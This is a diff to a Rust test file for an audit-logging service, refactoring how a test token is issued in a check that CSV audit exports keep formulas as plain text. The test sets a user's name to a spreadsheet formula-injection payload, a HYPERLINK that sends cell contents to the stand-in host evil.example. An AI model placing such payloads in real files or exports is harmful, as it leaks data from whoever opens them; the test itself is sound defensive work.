@@ -14,8 +14,7 @@ use tokio::io::{AsyncBufReadExt, BufReader};
 
 use forankra::audit::key::KeySource;
 use forankra::audit::{self, Entry};
-use forankra::auth::Identity;
-use forankra::ids::{DocId, OrgId, UserId};
+use forankra::ids::DocId;
 use forankra::storage::Db;
 
 use crate::both_dbs;
@@ -507,15 +506,13 @@ async fn the_audit_key_lives_beside_the_database_and_a_lost_or_wrong_key_stops_t
 both_dbs!(the_audit_csv_keeps_formulas_as_text, |backend| async move {
     let app = TestApp::spawn(backend).await?;
     let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Öppna\")";
-    let identity = Identity {
-        user: UserId::parse("mallory")?,
-        name: name.to_owned(),
-        org: OrgId::parse("stadsledningskontoret")?,
-    };
-    let token = app
-        .state
-        .tokens
-        .issue(&identity, Duration::from_secs(3600))?;
+    let token = forankra_testkit::token::sign(
+        &app.state.tokens,
+        "mallory",
+        name,
+        "stadsledningskontoret",
+        Duration::from_secs(3600),
+    )?;
     let doc = app.create_doc(&token, "Plan", Some(DRAFT)).await?;
     let (status, csv) = app
         .get_text(&token, &format!("/api/documents/{doc}/audit?format=csv"))
